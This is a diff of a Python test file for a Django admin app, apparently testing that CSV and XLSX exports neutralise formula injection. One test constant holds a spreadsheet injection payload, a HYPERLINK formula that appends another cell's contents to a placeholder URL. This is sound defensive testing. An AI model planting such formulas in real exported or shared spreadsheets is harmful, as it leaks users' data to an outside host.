@@ -12,11 +12,10 @@ from decimal import Decimal
 import openpyxl
 import pytest
 from django.urls import reverse
-from openpyxl import Workbook
 
 from dropcopy_admin import clock
 from dropcopy_admin.choices import Role
-from dropcopy_admin.spreadsheets import safe_csv_cell, safe_csv_row, safe_xlsx_row, without_control_characters
+from dropcopy_admin.spreadsheets import SafeWorkbook, safe_csv_cell, safe_csv_row, without_control_characters
 from tests import factories
 
 FORMULA = '=HYPERLINK("http://x"&B2,"Invoice")'
@@ -57,17 +56,15 @@ def test_csv_numbers_are_written_plainly_even_when_negative():
     assert safe_csv_cell("-125.50") == "'-125.50"  # text that looks like a number is still text
 
 
-@pytest.fixture(params=[False, True], ids=["workbook", "write-only"])
-def read_back(request):
-    """Writes one row of values through ``safe_xlsx_row`` (normal or write-only workbook), saves the
-    workbook and answers the cells of that row as openpyxl reads them back."""
+@pytest.fixture
+def read_back():
+    """Writes one row of values through a ``SafeWorkbook`` and answers the cells of that row as
+    openpyxl reads them back."""
 
     def write_and_read(values: list) -> tuple:
-        workbook = Workbook(write_only=request.param)
-        sheet = workbook.create_sheet("cells") if request.param else workbook.active
-        sheet.append(safe_xlsx_row(sheet, values))
         out = io.BytesIO()
-        workbook.save(out)
+        with SafeWorkbook(out) as workbook:
+            workbook.sheet("cells").append(values)
         return openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[-1][1]
 
     return write_and_read
@@ -76,8 +73,9 @@ def read_back(request):
 def test_xlsx_text_that_begins_like_a_formula_is_a_string_shown_as_typed(read_back):
     cells = read_back(FORMULA_LIKE)
 
-    # XML reads a carriage return back as a line feed; the text is otherwise exactly as typed.
-    assert [cell.value for cell in cells] == [*FORMULA_LIKE[:-1], "\n=1+1"]
+    # A carriage return is stored as OOXML's escape _x000D_ (Excel shows the character, openpyxl
+    # leaves the escape); the text is otherwise exactly as typed.
+    assert [cell.value for cell in cells] == [*FORMULA_LIKE[:-1], "_x000D_=1+1"]
     assert [cell.data_type for cell in cells] == ["s"] * len(FORMULA_LIKE)  # never "f"
     assert all(cell.quotePrefix for cell in cells)  # Excel keeps it text when the cell is edited
 
